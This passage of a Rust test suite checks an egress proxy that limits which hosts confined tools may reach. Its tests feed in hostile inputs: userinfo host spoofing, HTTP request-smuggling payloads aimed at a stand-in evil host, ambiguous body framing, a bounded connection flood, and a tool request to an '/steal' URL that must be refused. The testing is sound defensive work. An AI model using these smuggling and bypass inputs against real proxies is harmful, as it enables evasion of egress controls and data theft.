        assert!(!answer.contains("hello from the listener"), "{answer}");
    }
    // The connection was opened, and closed before a byte went through.
    assert_eq!(p.dialer.dialed().len(), 3, "{:?}", p.dialer.dialed());
    let events = p.events();
    assert!(
        events
            .iter()
            .all(|e| matches!(e.refusal, Refusal::OwnListener { port, .. } if port == own.port)),
        "{events:?}"
    );
    // An api-base port is the user's own statement: the /proc check does not apply to it.
    let p = Proxy::start(unrestricted(), FakeResolver::default(), |c| {
        c.api_base_ports = api_base(&[own.port])
    });
    let answer = p
        .exchange(format!("GET http://localhost:{}/ HTTP/1.1\r\n\r\n", own.port).as_bytes())
        .await;
    assert!(answer.contains("hello from the listener"), "{answer}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_targets_are_refused_as_not_hosts() {
    let p = Proxy::start(unrestricted(), FakeResolver::default(), |_| {});
    for target in [
        "api.example.test@evil.example.test:443",
        "evil.example.test%2f:443",
        "a..b.example.test:443",
        "1.2.3.4.5:443",
        "256.1.1.1:443",
        "xn--a.example.test:443",
    ] {
        let answer = p
            .exchange(format!("CONNECT {target} HTTP/1.1\r\n\r\n").as_bytes())
            .await;
        assert!(answer.starts_with("HTTP/1.1 403 "), "{target}: {answer}");
        assert!(answer.contains("which is not a host"), "{target}: {answer}");
    }
    let long = format!("{}.example.test:443", "a".repeat(64));
    let answer = p
        .exchange(format!("CONNECT {long} HTTP/1.1\r\n\r\n").as_bytes())
        .await;
    assert!(answer.contains("longer than the 63"), "{answer}");
    // Without a port, and with a port out of range.
    for target in [
        "api.example.test",
        "api.example.test:0",
        "api.example.test:65536",
    ] {
        let answer = p
            .exchange(format!("CONNECT {target} HTTP/1.1\r\n\r\n").as_bytes())
            .await;
        assert!(
            answer.starts_with("HTTP/1.1 400 ") || answer.starts_with("HTTP/1.1 403 "),
            "{target}: {answer}"
        );
    }
    assert!(p.resolver.asked().is_empty() && p.dialer.dialed().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn spellings_of_an_allowed_host_are_one_host() {
    let echo = EchoServer::start().await;
    let port = echo.port();
    let rules = [
        format!("api.example.test:{port}"),
        format!("bücher.example.test:{port}"),
        format!("*.wild.example.test:{port}"),
    ];
    let rules: Vec<&str> = rules.iter().map(String::as_str).collect();
    let resolver = FakeResolver::default()
        .with("api.example.test", &["127.0.0.1"])
        .with("xn--bcher-kva.example.test", &["127.0.0.1"])
        .with("a.b.wild.example.test", &["127.0.0.1"]);
    let p = Proxy::start(lists(&rules), resolver, |c| c.loopback_names = true);
    for (target, sni) in [
        ("API.EXAMPLE.TEST", "api.example.test"),
        ("api.example.test.", "api.example.test"),
        ("xn--bcher-kva.example.test", "xn--bcher-kva.example.test"),
        ("XN--BCHER-KVA.example.test.", "xn--bcher-kva.example.test"),
        ("a.b.wild.example.test", "A.B.WILD.example.test"),
    ] {
        let hello = client_hello(Some(sni), &[], 512);
        p.tunnel(&format!("{target}:{port}"), &hello)
            .await
            .unwrap_or_else(|e| panic!("{target}: {e}"));
    }
    for target in [
        "wild.example.test",
        "api.example.test.evil.test",
        "bucher.example.test",
    ] {
        let answer = p
            .exchange(format!("CONNECT {target}:{port} HTTP/1.1\r\n\r\n").as_bytes())
            .await;
        assert!(answer.starts_with("HTTP/1.1 403 "), "{target}: {answer}");
    }
}

// ---------------------------------------------------------------------------------------------
// Absolute-form HTTP

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn absolute_form_requests_are_forwarded_in_origin_form() {
    let api = HttpServer::start().await;
    let port = api.port();
    let listed = format!("localhost:{port}");
    let p = Proxy::start(
        lists(&["api.example.test", &listed]),
        FakeResolver::default(),
        |_| {},
    );
    let answer = p
        .exchange(
            format!(
                "GET http://localhost:{port}/v1/search?q=rain#frag HTTP/1.1\r\nHost: localhost:{port}\r\n\
                 Proxy-Connection: keep-alive\r\nProxy-Authorization: Basic eDp5\r\nConnection: keep-alive, X-Drop\r\n\
                 X-Drop: 1\r\nX-Keep: 2\r\nAccept: */*\r\n\r\n"
            )
            .as_bytes(),
        )
        .await;
    assert_eq!(status(&answer), "HTTP/1.1 200 OK", "{answer}");
    assert_eq!(body(&answer), "fake-api saw GET /v1/search?q=rain HTTP/1.1");
    let seen = api.wait_seen(1).await;
    let head = &seen[0].head;
    assert!(
        head.starts_with("GET /v1/search?q=rain HTTP/1.1\r\n"),
        "{head}"
    );
    assert!(
        head.contains(&format!("Host: localhost:{port}\r\n")),
        "{head}"
    );
    assert!(
        head.contains("X-Keep: 2\r\n") && head.contains("Accept: */*\r\n"),
        "{head}"
    );
    assert!(head.ends_with("Connection: close\r\n\r\n"), "{head}");
    for gone in ["Proxy-", "X-Drop", "keep-alive"] {
        assert!(!head.contains(gone), "{gone} was forwarded: {head}");
    }
    // Without a Host field one is added; spellings of localhost are localhost.
    for authority in [
        format!("LOCALHOST.:{port}"),
        format!("127.1:{port}"),
        format!("0177.0.0.1:{port}"),
        format!("2130706433:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
    ] {
        let answer = p
            .exchange(format!("GET http://{authority}/x HTTP/1.1\r\n\r\n").as_bytes())
            .await;
        assert_eq!(status(&answer), "HTTP/1.1 200 OK", "{authority}: {answer}");
    }
    let seen = api.wait_seen(6).await;
    let added = format!("Host: LOCALHOST.:{port}\r\n");
    assert!(seen.iter().any(|s| s.head.contains(&added)), "{seen:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn request_bodies_are_framed_exactly_and_nothing_follows_them() {
    let api = HttpServer::start().await;
    let port = api.port();
    let p = Proxy::start(unrestricted(), FakeResolver::default(), |c| {
        c.api_base_ports = api_base(&[port])
    });
    // A body with Content-Length, then a second request for another host on the same connection.
    let smuggled = "GET http://evil.example.test/ HTTP/1.1\r\nHost: evil.example.test\r\n\r\n";
    let answer = p
        .exchange(
            format!(
                "POST http://localhost:{port}/in HTTP/1.1\r\nHost: localhost:{port}\r\nContent-Length: 11\r\n\r\nhello world{smuggled}"
            )
            .as_bytes(),
        )
        .await;
    assert_eq!(body(&answer), "fake-api saw POST /in HTTP/1.1", "{answer}");
    // A chunked body, sent in pieces.
    let mut s = TcpStream::connect(p.addr).await.unwrap();
    s.write_all(
        format!("POST http://localhost:{port}/chunks HTTP/1.1\r\nHost: localhost:{port}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhel").as_bytes(),
    )
    .await
    .unwrap();
    tokio::time::sleep(Duration::from_millis(50)).await;
    s.write_all(format!("lo\r\n6;x=y\r\n world\r\n0\r\n\r\n{smuggled}").as_bytes())
        .await
        .unwrap();
    let answer = read_to_end(&mut s).await;
    assert_eq!(
        body(&answer),
        "fake-api saw POST /chunks HTTP/1.1",
        "{answer}"
    );
    let seen = api.wait_seen(2).await;
    assert_eq!(seen[0].body, b"hello world");
    assert_eq!(seen[1].body, b"5\r\nhello\r\n6;x=y\r\n world\r\n0\r\n\r\n");
    for s in &seen {
        assert!(
            s.after.is_empty(),
            "forwarded after the body: {:?}",
            String::from_utf8_lossy(&s.after)
        );
    }
    assert!(p.resolver.asked().is_empty());
    // Ambiguous framing is refused.
    for fields in [
        "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n",
        "Content-Length: 3\r\nContent-Length: 4\r\n",
        "Transfer-Encoding: gzip, chunked\r\n",
        "Content-Length: -1\r\n",
    ] {
        let answer = p
            .exchange(format!("POST http://localhost:{port}/ HTTP/1.1\r\nHost: localhost:{port}\r\n{fields}\r\nabc").as_bytes())
            .await;
        assert!(answer.starts_with("HTTP/1.1 400 "), "{fields}: {answer}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn absolute_form_refusals_and_bad_requests() {
    let api = HttpServer::start().await;
    let port = api.port();
    let p = Proxy::start(
        lists(&["api.example.test"]),
        FakeResolver::default(),
        |_| {},
    );
    let answer = p
        .exchange(
            b"GET http://other.example.test/data HTTP/1.1\r\nHost: other.example.test\r\n\r\n",
        )
        .await;
    assert!(
        answer.starts_with("HTTP/1.1 403 weather_tool holds WEATHER_KEY"),
        "{answer}"
    );
    assert!(
        body(&answer)
            .contains("`autotool keys allow WEATHER_KEY api.example.test other.example.test`"),
        "{answer}"
    );
    for (request, want) in [
        // The Host field must name the target.
        (
            format!("GET http://localhost:{port}/ HTTP/1.1\r\nHost: other.example.test\r\n\r\n"),
            "400",
        ),
        (
            format!("GET http://localhost:{port}/ HTTP/1.1\r\nHost: localhost\r\n\r\n"),
            "400",
        ),
        (
            format!(
                "GET http://localhost:{port}/ HTTP/1.1\r\nHost: localhost:{port}\r\nHost: localhost:{port}\r\n\r\n"
            ),
            "400",
        ),
        // Origin-form, https in absolute form, other schemes, user information.
        ("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".into(), "400"),
        (
            "GET https://api.example.test/ HTTP/1.1\r\n\r\n".into(),
            "400",
        ),
        ("GET ftp://api.example.test/ HTTP/1.1\r\n\r\n".into(), "400"),
        (
            format!("GET http://user@localhost:{port}/ HTTP/1.1\r\n\r\n"),
            "403",
        ),
        // Not HTTP at all.
        ("\x16\x03\x01\x00\x10not a request\r\n\r\n".into(), "400"),
    ] {
        let answer = p.exchange(request.as_bytes()).await;
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {want} ")),
            "{request:?}: {answer}"
        );
    }
    let answer = p
        .exchange(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
        .await;
    assert!(answer.contains("autotool's egress proxy"), "{answer}");
    assert!(api.seen.lock().unwrap().is_empty());
}

// ---------------------------------------------------------------------------------------------
// Limits

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_oversized_head_gets_431_and_a_slow_one_408() {
    let p = Proxy::start(unrestricted(), FakeResolver::default(), |c| {
        c.limits.head_timeout = Duration::from_millis(300);
    });
    let big = format!(
        "GET http://localhost:1/ HTTP/1.1\r\nHost: localhost:1\r\nX-Big: {}\r\n\r\n",
        "a".repeat(20 << 10)
    );
    let answer = p.exchange(big.as_bytes()).await;
    assert!(
        answer.starts_with("HTTP/1.1 431 "),
        "{}",
        &answer[..answer.len().min(200)]
    );
    assert!(answer.contains("16384 bytes"), "{answer}");
    // Many small fields count too.
    let many: String = (0..150).map(|i| format!("X-{i}: v\r\n")).collect();
    let answer = p
        .exchange(format!("GET http://localhost:1/ HTTP/1.1\r\n{many}\r\n").as_bytes())
        .await;
    assert!(answer.starts_with("HTTP/1.1 431 "), "{answer}");
    // A head that never ends.
    let t0 = Instant::now();
    let mut s = TcpStream::connect(p.addr).await.unwrap();
    s.write_all(b"GET http://localhost:1/ HTTP/1.1\r\nX-Slow: ")
        .await
        .unwrap();
    let answer = read_to_end(&mut s).await;
    assert!(answer.starts_with("HTTP/1.1 408 "), "{answer}");
    assert!(t0.elapsed() < Duration::from_secs(3), "{:?}", t0.elapsed());
    assert!(p.dialer.dialed().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idle_tunnels_are_closed() {
    let echo = EchoServer::start().await;
    let p = Proxy::start(unrestricted(), FakeResolver::default(), |c| {
        c.limits.idle_timeout = Duration::from_millis(400);
        c.api_base_ports = api_base(&[echo.port()]);
    });
    let hello = client_hello(Some("localhost"), &[], 512);
    let mut s = p
        .tunnel(&format!("localhost:{}", echo.port()), &hello)
        .await
        .unwrap();
    // Traffic keeps it open…
    for _ in 0..4 {
        tokio::time::sleep(Duration::from_millis(200)).await;
        s.write_all(b"ping").await.unwrap();
        let mut pong = [0u8; 4];
        s.read_exact(&mut pong).await.unwrap();
    }
    // …silence closes it.
    let t0 = Instant::now();
    let rest = read_to_end(&mut s).await;
    assert!(rest.is_empty());
    let waited = t0.elapsed();
    assert!(
        waited >= Duration::from_millis(300) && waited < Duration::from_secs(3),
        "{waited:?}"
    );
    assert_eq!(p.proxy.active_connections(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connections_past_the_cap_wait_then_get_503() {
    let echo = EchoServer::start().await;
    let p = Proxy::start(unrestricted(), FakeResolver::default(), |c| {
        c.limits.max_connections = 4;
        c.limits.queue_wait = Duration::from_millis(500);
        c.api_base_ports = api_base(&[echo.port()]);
    });
    let target = format!("localhost:{}", echo.port());
    let hello = client_hello(Some("localhost"), &[], 512);
    let mut open = Vec::new();
    for _ in 0..4 {
        open.push(p.tunnel(&target, &hello).await.unwrap());
    }
    assert_eq!(p.proxy.active_connections(), 4);
    // The fifth waits for a slot, then is told why.
    let t0 = Instant::now();
    let (head, _s) = p.connect(&target).await;
    assert!(
        head.starts_with("HTTP/1.1 503 free_tool already has 4 connections open"),
        "{head}"
    );
    assert!(
        t0.elapsed() >= Duration::from_millis(400),
        "{:?}",
        t0.elapsed()
    );
    // A sixth, started before one of the four closes, gets the freed slot.
    let waiting = {
        let addr = p.addr;
        let target = target.clone();
        tokio::spawn(async move {
            let mut s = TcpStream::connect(addr).await.unwrap();
            s.write_all(format!("CONNECT {target} HTTP/1.1\r\n\r\n").as_bytes())
                .await
                .unwrap();
            read_head(&mut s).await
        })
    };
    tokio::time::sleep(Duration::from_millis(100)).await;
    drop(open.pop());
    let head = tokio::time::timeout(WAIT, waiting).await.unwrap().unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_tool_s_flood_does_not_hold_up_another() {
    let api = HttpServer::start().await;
    let port = api.port();
    let flooded = Proxy::start(KeyLists::new("flooder"), FakeResolver::default(), |c| {
        c.limits.max_connections = 8;
        c.limits.head_timeout = Duration::from_secs(5);
        c.api_base_ports = api_base(&[port]);
    });
    let quiet = Proxy::start(KeyLists::new("quiet"), FakeResolver::default(), |c| {
        c.api_base_ports = api_base(&[port])
    });
    let request =
        format!("GET http://localhost:{port}/q HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n");

    // Baseline for the quiet tool.
    let mut baseline = Vec::new();
    for _ in 0..20 {
        let t = Instant::now();
        let answer = quiet.exchange(request.as_bytes()).await;
        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
        baseline.push(t.elapsed());
    }

    // The flood: 300 connections that send half a head and hold on, plus 4 tasks hammering
    // real requests, for at most 3 s. Loopback only, bounded in count and time.
    let deadline = Instant::now() + Duration::from_secs(3);
    let mut flood = Vec::new();
    for _ in 0..300 {
        let addr = flooded.addr;
        flood.push(tokio::spawn(async move {
            if let Ok(mut s) = TcpStream::connect(addr).await {
                let _ = s
                    .write_all(b"GET http://localhost:1/ HTTP/1.1\r\nX-Slow: ")
                    .await;
                tokio::time::sleep_until(deadline.into()).await;
            }
        }));
    }
    for _ in 0..4 {
        let addr = flooded.addr;
        let request = request.clone();
        flood.push(tokio::spawn(async move {
            let mut n = 0;
            while Instant::now() < deadline && n < 2000 {
                if let Ok(mut s) = TcpStream::connect(addr).await {
                    let _ = s.write_all(request.as_bytes()).await;
                    let _ =
                        tokio::time::timeout(Duration::from_millis(200), read_to_end(&mut s)).await;
                }
                n += 1;
            }
        }));
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(
        flooded.proxy.active_connections(),
        8,
        "the flood fills its own slots"
    );
    let mut during = Vec::new();
    for _ in 0..20 {
        let t = Instant::now();
        let answer = quiet.exchange(request.as_bytes()).await;
        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
        during.push(t.elapsed());
    }
    for task in flood {
        let _ = task.await;
    }
    baseline.sort();
    during.sort();
    eprintln!(
        "FLOOD quiet tool p50 {:?} → {:?} during the flood, max {:?} → {:?}",
        baseline[10], during[10], baseline[19], during[19]
    );
    assert!(during[19] < Duration::from_millis(500), "{during:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dropping_the_proxy_cuts_its_tunnels_and_closes_its_listener() {
    let echo = EchoServer::start().await;
    let p = Proxy::start(unrestricted(), FakeResolver::default(), |c| {
        c.api_base_ports = api_base(&[echo.port()])
    });
    let hello = client_hello(None, &[], 512);
    let mut s = p
        .tunnel(&format!("127.0.0.1:{}", echo.port()), &hello)
        .await
        .unwrap();
    let Proxy { proxy, addr, .. } = p;
    drop(proxy);
    let rest = read_to_end(&mut s).await;
    assert!(rest.is_empty());
    tokio::time::sleep(Duration::from_millis(50)).await;
    assert!(TcpStream::connect(addr).await.is_err(), "still listening");
}

// ---------------------------------------------------------------------------------------------
// End to end: a confined Python tool on the mcp SDK, through ToolProcess

const TOOL: &str = r#"
import urllib.error, urllib.request
import httpx2
from mcp.server.mcpserver import MCPServer

mcp = MCPServer("egress_e2e")

@mcp.tool()
def fetch_urllib(url: str) -> str:
    """GET url with urllib; the body, or the error as text."""
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return f"{r.status} {r.read().decode()}"
    except urllib.error.HTTPError as e:
        return f"{e.code} {e.read().decode()}"
    except Exception as e:
        return f"error {type(e).__name__}: {e}"

@mcp.tool()
def fetch_httpx(url: str) -> str:
    """GET url with httpx2; the body, or the error as text."""
    try:
        r = httpx2.get(url, timeout=10)
        return f"{r.status_code} {r.text}"
    except Exception as e:
        return f"error {type(e).__name__}: {e}"

if __name__ == "__main__":
    mcp.run()
"#;

fn text_of(outcome: &autotool::tool::process::CallOutcome) -> String {
    outcome
        .content
        .iter()
        .filter_map(|c| c.as_text().map(|t| t.text.clone()))
        .collect::<Vec<_>>()
        .join("\n")
}

async fn end_to_end(mode: SandboxMode) -> Result<()> {
    let Some(launcher) = launcher_for("end_to_end", mode) else {
        return Ok(());
    };
    let api = HttpServer::start().await;
    let port = api.port();
    let dir = tempfile::Builder::new()
        .prefix("autotool-egress-")
        .tempdir()?;
    std::fs::write(dir.path().join("tool.py"), TOOL)?;
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755))?;
    let mut spec = ToolSpec::new(dir.path(), "tool.py", runtime(), mode);
    spec.launcher = launcher;
    spec.env = autotool_policy::launch::tool_environment(&BTreeMap::new(), &BTreeMap::new(), None);
    let events = Arc::new(Mutex::new(Vec::<EgressEvent>::new()));
    let lists = KeyLists::new("egress_e2e")
        .with_key(KeyAllowlist::parse("FAKE_API_KEY", Some(&["api.example.test"][..])).unwrap());
    // The API's port, as serve's environment would name it.
    let mut config = EgressConfig::new(lists)
        .with_api_bases([("FAKE_API_BASE", format!("http://localhost:{port}"))]);
    // Nothing in this test may resolve a name: the refused names are refused before it.
    config.resolver = Arc::new(FakeResolver::default());
    let sink = events.clone();
    config.events = Some(Arc::new(move |e| sink.lock().unwrap().push(e)));
    spec.egress = Some(config);
    let tool = ToolProcess::start(spec).await?;
    let call = |function: &'static str, url: String| {
        let tool = &tool;
        async move {
            let mut args = Map::new();
            args.insert("url".into(), Value::String(url));
            let out = tool.call(function, args, Duration::from_secs(30)).await?;
            ensure!(!out.is_error, "{out:?}");
            Ok::<_, anyhow::Error>(text_of(&out))
        }
    };
    for function in ["fetch_urllib", "fetch_httpx"] {
        let got = call(
            function,
            format!("http://localhost:{port}/forecast?city=oslo"),
        )
        .await?;
        ensure!(
            got == "200 fake-api saw GET /forecast?city=oslo HTTP/1.1",
            "{mode:?} {function}: {got}"
        );
        let got = call(function, "http://other.example.test/steal".into()).await?;
        ensure!(
            got.starts_with("403 egress_e2e holds FAKE_API_KEY"),
            "{mode:?} {function}: {got}"
        );
        ensure!(
            got.contains("`autotool keys allow FAKE_API_KEY api.example.test other.example.test`"),
            "{mode:?} {function}: {got}"
        );
        // https goes through CONNECT; the refusal's reason phrase lands in the exception.
        let got = call(function, "https://other.example.test/steal".into()).await?;
        ensure!(
            got.contains("403 egress_e2e holds FAKE_API_KEY")
                && got.contains("autotool keys allow"),
            "{mode:?} {function}: {got}"
        );
    }
    let seen = api.wait_seen(2).await;
    ensure!(seen.len() == 2, "{seen:?}");
    ensure!(
        seen.iter()
            .all(|s| s.head.contains("Connection: close\r\n")),
        "{seen:?}"
    );
    let events = events.lock().unwrap().clone();
    ensure!(events.len() == 4, "{events:?}");
    ensure!(
        events
            .iter()
            .all(|e| e.tool == "egress_e2e" && e.target == "other.example.test"),
        "{events:?}"
    );
    ensure!(
        tool.egress_connections().is_some(),
        "no proxy while the tool runs"
    );
    let report = tool.shutdown().await;
    ensure!(report.status.is_some(), "{report:?}");
    ensure!(
        tool.egress_connections().is_none(),
        "the proxy outlived its process"
    );
    Ok(())
}

async fn bounded(mode: SandboxMode) {
    match tokio::time::timeout(Duration::from_secs(120), end_to_end(mode)).await {
        Ok(Ok(())) => {}
        Ok(Err(e)) => panic!("{mode:?}: {e:#}"),
        Err(_) => panic!("{mode:?}: still running after 120 s"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_confined_tool_reaches_localhost_and_hears_why_other_hosts_are_refused() {
    bounded(SandboxMode::Strict).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unconfined_tool_goes_through_the_proxy_too() {
    bounded(SandboxMode::Off).await;
}

/// An upstream that answers, then waits for its peer to close before closing itself (a
/// lingering close), one connection at a time.
async fn lingering_upstream() -> (u16, Arc<Mutex<usize>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let served = Arc::new(Mutex::new(0usize));
    let count = served.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            let _ = read_head(&mut s).await;
            let _ = s
                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
                .await;
            let mut rest = Vec::new();
            let _ = s.read_to_end(&mut rest).await;
            *count.lock().unwrap() += 1;
        }
    });
    (port, served)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_closing_ends_an_absolute_form_exchange() {
    let (port, served) = lingering_upstream().await;
    let p = Proxy::start(unrestricted(), FakeResolver::default(), |c| {
        c.api_base_ports = api_base(&[port])
    });
    for round in 0..3 {
        let mut s = TcpStream::connect(p.addr).await.unwrap();
        s.write_all(format!("GET http://localhost:{port}/ HTTP/1.1\r\n\r\n").as_bytes())
            .await
            .unwrap();
        // Read exactly the answer, then close, as an HTTP client does with Content-Length.
        let head = read_head(&mut s).await;
        assert!(head.starts_with("HTTP/1.1 200"), "round {round}: {head}");
        let mut body = [0u8; 2];
        tokio::time::timeout(WAIT, s.read_exact(&mut body))
            .await
            .unwrap()
            .unwrap();
        drop(s);
        // The close reached the upstream, which finished and can take the next connection.
        let deadline = tokio::time::Instant::now() + WAIT;
        while *served.lock().unwrap() <= round {
            assert!(
                tokio::time::Instant::now() < deadline,
                "round {round}: the upstream never saw the client's close"
            );
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }
}
